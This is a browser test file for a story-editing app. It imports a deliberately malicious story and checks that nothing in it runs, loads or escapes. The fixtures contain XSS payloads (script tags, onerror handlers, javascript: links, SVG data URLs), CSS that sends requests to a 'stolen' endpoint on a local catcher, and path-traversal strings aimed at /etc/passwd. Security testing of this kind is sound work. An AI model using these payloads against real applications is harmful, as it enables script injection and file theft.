/**
 * A hostile story: its stylesheet, texts, names and file names try to reach the network, the window and the file system. It is imported,
 * shown in every view and played; nothing of it is loaded, run or opened. The last test plays a harmless story with sounds.
 */
import { afterAll, afterEach, beforeEach, describe, expect, test } from 'vitest';
import { projectRecordId } from '../../shared/model/kinds/project.ts';
import { launchApp, type TestApp } from './app.ts';
import { createBackendCall } from './backend-call.ts';
import { hostileStyles, openRequestCatcher } from './hostile-content.ts';
import { createProject, goToProjectList } from './user-steps.ts';

let app: TestApp;
/** The browser logs each blocked request: these errors are expected. */
const refusals = /Content Security Policy|Refused|violates|Blocked|sandboxed|Not allowed to load|Failed to load resource|net::ERR/;
beforeEach(async () => {
  app = await launchApp({ mayLog: refusals });
});
afterEach(() => app?.close());

const uuid = (last: number) => `00000000-0000-4000-8000-${String(last).padStart(12, '0')}`;
/** Records what reaches it; hostile-content.browser.test.ts is the control. */
const catcher = await openRequestCatcher();
afterAll(() => catcher.close());
const away = `${catcher.origin}/stolen`;
const svgInUrl = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.taken=1</script><image href="${away}/svg"/></svg>`)}`;
const takes = 'parent.document.title=document.title=`taken`;window.taken=1';

const hostileTexts = [
  `<p><img src="${away}.png" onerror="${takes}">One</p>`,
  `<p><script>${takes}</script><svg onload="${takes}"><image href="${away}.svg"/></svg>Two</p>`,
  `<p><a href="javascript:${takes}">Three</a> <a href="file:///etc/passwd">file</a></p>`,
  `<p><iframe src="file:///etc/passwd"></iframe><object data="${away}"></object><embed src="${away}">Four</p>`,
  `<p style="background:url(${away}.gif)"><style>@import url(${away}.css);</style><link rel="stylesheet" href="${away}">Five</p>`,
  `<p><form action="${away}"><input autofocus onfocus="${takes}"><button formaction="javascript:${takes}">Six</button></form></p>`,
  `<p><meta http-equiv="refresh" content="0;url=${away}"><base href="${away}/">Seven</p>`,
  `<p><video src="${away}.mp4" autoplay></video><audio src="${away}.mp3" autoplay></audio>Eight</p>`,
  `<p><img src="${svgInUrl}"><iframe src="${svgInUrl}"></iframe><a href="${svgInUrl}">Nine</a></p>`,
];
const hostileNames = [
  `"><img src=x onerror="${takes}">`,
  '../../../../etc/passwd',
  'file:///etc/passwd',
  '\\\\server\\share\\x.png',
  `</style><script>${takes}</script>`,
];
const hostileSheet = `${hostileStyles(away)}
  @font-face { font-family: stolen; src: url("${away}.woff2"); }
  * { background: url("${away}.png"), url("file:///etc/passwd"), url("/file/x/..%2f..%2fetc%2fpasswd"); font-family: stolen; cursor: url("${away}.cur"), auto; }
  html { position: fixed; inset: -9999px; z-index: 2147483647; }
  body::before { content: url("${away}.before.png"); position: fixed; inset: -9999px; }
  [data-theme^="d"] { list-style-image: url("${away}?theme=d"); }
  body:has(b) { background-image: url("${away}?has=b"), url("${svgInUrl}"); }
  </style><script>${takes}</script>`;

const words = ['One', 'Two', 'Three', 'Four', 'Five', 'Six', 'Seven', 'Eight', 'Nine'];
/** The same markup as escaped text, which would be harmful if it were unescaped twice; and links, which a story may have. */
const passing = hostileTexts.map(
  (text, at) => `<p><b>${words[at]}</b> <a href="${away}/${at}">a link</a> ${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>`,
);

/** Each element leads to the next; names, labels, files and attributes contain the hostile texts, too. */
function hostileStory(texts: readonly string[] = passing): unknown {
  const ids = texts.map((_, at) => uuid(100 + at));
  const name = (at: number) => hostileNames[at % hostileNames.length] ?? '';
  const leads = ids.slice(0, -1);
  return {
    name: `Trap ${hostileNames[0]}`,
    startingElement: ids[0],
    boards: {
      [uuid(1)]: { name: 'Root', root: true, children: [uuid(2)] },
      [uuid(2)]: {
        name: name(0),
        notes: [uuid(3)],
        jumpers: [],
        branches: [],
        elements: ids,
        connections: leads.map((_, at) => uuid(200 + at)),
      },
    },
    notes: { [uuid(3)]: { theme: 'default', content: texts[0] } },
    jumpers: {},
    branches: {},
    conditions: {},
    elements: Object.fromEntries(
      ids.map((id, at) => [
        id,
        {
          theme: 'default',
          title: `<p>${name(at).replaceAll('<', '&lt;')}</p>`,
          content: texts[at],
          outputs: at < leads.length ? [uuid(200 + at)] : [],
          components: [uuid(11)],
          assets: {
            cover:
              at === 0
                ? { id: uuid(21), type: 'image' }
                : { type: at % 2 ? 'youtube' : 'icon', url: `${away}"onerror="${takes}`, file: name(1) },
          },
        },
      ]),
    ),
    connections: Object.fromEntries(
      leads.map((id, at) => [
        uuid(200 + at),
        {
          type: 'Bezier',
          label: texts[at],
          theme: 'default',
          sourceid: id,
          sourceType: 'elements',
          targetid: ids[at + 1],
          targetType: 'elements',
        },
      ]),
    ),
    components: {
      [uuid(10)]: { name: 'Root', root: true, children: [uuid(11)] },
      [uuid(11)]: { name: name(0), assets: { cover: { id: uuid(21), type: 'image' } } },
    },
    attributes: {},
    assets: {
      [uuid(20)]: { root: true, children: [uuid(21), uuid(22)] },
      [uuid(21)]: { name: name(1), type: 'image' },
      [uuid(22)]: { name: name(0), type: 'audio' },
    },
    variables: { [uuid(30)]: { root: true, children: [] } },
    cover: null,
  };
}

/** Whether any of it has run or covers the window. */
const untouched = () =>
  app.page.evaluate(() => {
    const head = document.querySelector('.workspace-header')?.getBoundingClientRect();
    const top = head && document.elementFromPoint(head.x + 20, head.y + head.height / 2);
    return { taken: 'taken' in window, title: document.title === 'taken', headOnTop: top?.closest('.workspace-header') != null };
  });
const fine = { taken: false, title: false, headOnTop: true };

describe('a malicious story', () => {
  test('is rejected if its markup could run', async () => {
    for (const text of hostileTexts) {
      const source = { text: JSON.stringify(hostileStory([text])), fileName: 'evil.json' };
      await expect(createBackendCall(app)('project.import', { source })).rejects.toThrow(/"key":"richText\./);
    }
  });

  test('is imported, shown in every view and played; nothing is loaded, run or opened', async () => {
    const { page } = app;
    const call = createBackendCall(app);
    const own = new URL(page.url());
    const went: string[] = [];
    const isForeign = (url: string) => {
      const to = new URL(url);
      return !['data:', 'blob:'].includes(to.protocol) && (to.protocol !== own.protocol || to.host !== own.host);
    };
    page.context().on('response', (response) => isForeign(response.url()) && went.push(response.url()));
    // The page's policy blocks an attempt before a host name is looked up; the browser itself refuses local files.
    page.context().on('requestfailed', (request) => {
      const why = request.failure()?.errorText ?? '';
      if (isForeign(request.url()) && !request.url().startsWith('file:') && !/csp|BLOCKED/i.test(why))
        went.push(`${request.url()}: ${why}`);
    });
    page.on('popup', (popup) => went.push(`a window: ${popup.url()}`));
    page.on('dialog', (asked) => went.push(`a question: ${asked.message()}`));

    const { hash } = await call('project.import', { source: { text: JSON.stringify(hostileStory()), fileName: '../../evil.json' } });
    await call('project.send', { hash, command: { do: 'change', kind: 'project', id: projectRecordId, fields: { css: hostileSheet } } });
    await goToProjectList(app);
    await page.locator('.project-list [data-hash]').first().dblclick();
    await page.locator('.board[data-ready]').waitFor();
    expect(await untouched()).toEqual(fine);

    await page.locator('.board').press('Alt+1');
    for (const keys of ['Alt+l', 'Alt+l', 'Alt+c', 'Alt+a', 'Alt+b', 'Alt+p']) {
      await page.keyboard.press(keys);
      expect(await untouched()).toEqual(fine);
    }
    const frame = page.frameLocator('iframe.play-page');
    for (const [at] of passing.entries()) {
      await expect.poll(() => frame.locator('body').innerText()).toContain(words[at]);
      for (const link of await frame.locator('a, button, [formaction]').all()) await link.dispatchEvent('click');
      expect(await untouched()).toEqual(fine);
      if (at < passing.length - 1) await page.getByRole('list', { name: 'Choices' }).getByRole('button').first().click();
    }
    expect(went).toEqual([]);
    expect(catcher.requests).toEqual([]);
    expect(new URL(page.url()).host).toBe(own.host);
    expect(await page.evaluate(() => document.querySelector('iframe.play-page')?.getAttribute('sandbox'))).toBe('allow-same-origin');
  });

  test('its file names reach only its own files', async () => {
    const { page } = app;
    const { hash } = await createBackendCall(app)('project.import', {
      source: { text: JSON.stringify(hostileStory()), fileName: 'x.json' },
    });
    const found = await page.evaluate(async (project) => {
      // In the browser shell, so that it is the path that is rejected.
      const headers = { 'x-taleport-page': sessionStorage.getItem('taleport.pageSecret') ?? '' };
      const names = [
        '../../../../etc/passwd',
        '..%2f..%2f..%2fetc%2fpasswd',
        '%2e%2e/%2e%2e/etc/passwd',
        '/etc/passwd',
        'file:///etc/passwd',
        '..\\..\\x',
        '\u0000',
      ];
      const answers = await Promise.all(
        names.flatMap((name) =>
          [`/file/${project}/${name}`, `/file/${project}/${encodeURIComponent(name)}`, `/file/${encodeURIComponent(name)}/x`].map(
            async (path) => {
              const answer = await fetch(path, { headers }).catch(() => null);
              return answer?.ok && (await answer.text()).includes('root:') ? path : null;
            },
          ),
        ),
      );
      return answers.filter((each) => each !== null);
    }, hash);
    expect(found).toEqual([]);
  });
});

describe('sounds', () => {
  /** The sounds the page has begun, as it would be heard. */
  const listen = () =>
    app.page.evaluate(() => {
      const heard: HTMLMediaElement[] = [];
      const { play } = HTMLMediaElement.prototype;
      HTMLMediaElement.prototype.play = function () {
        heard.push(this);
        return play.call(this);
      };
      Object.assign(window, { heard });
    });
  const heard = () =>
    app.page.evaluate(() =>
      // `listen` has set it.
      (window as unknown as { heard: HTMLMediaElement[] }).heard.map(({ src, paused, loop, error }) => ({
        file: new URL(src).pathname,
        src,
        paused,
        loop,
        fault: error?.message ?? null,
      })),
    );

  test('an element plays its sound; it can be muted, and stops with the play', async () => {
    await createProject(app, 'Sample', 'Loud');
    await listen();
    await app.page.keyboard.press('Alt+p');
    await expect
      .poll(async () => (await heard()).map(({ paused, fault }) => ({ paused, fault })))
      .toEqual([{ paused: false, fault: null }]);
    const [sound] = await heard();
    expect(sound?.file).toMatch(/^\/file\/[\w-]+\/[^/]+$/);
    const bytes = await app.page.evaluate(async (file) => (await fetch(file)).status, sound?.src ?? '');
    expect(bytes).toBe(200);
    await app.page.locator('.play-panel').getByRole('button', { name: 'Sounds' }).click();
    await expect.poll(async () => (await heard()).every(({ paused }) => paused)).toBe(true);
    await app.page.locator('.play-panel').getByRole('button', { name: 'Sounds' }).click();
    await app.page
      .locator('.play-panel')
      .getByRole('button', { name: /^Restart/ })
      .click();
    await expect.poll(async () => (await heard()).some(({ paused }) => !paused)).toBe(true);
    await app.page.keyboard.press('Alt+p');
    await expect.poll(async () => (await heard()).every(({ paused }) => paused)).toBe(true);
  });
});
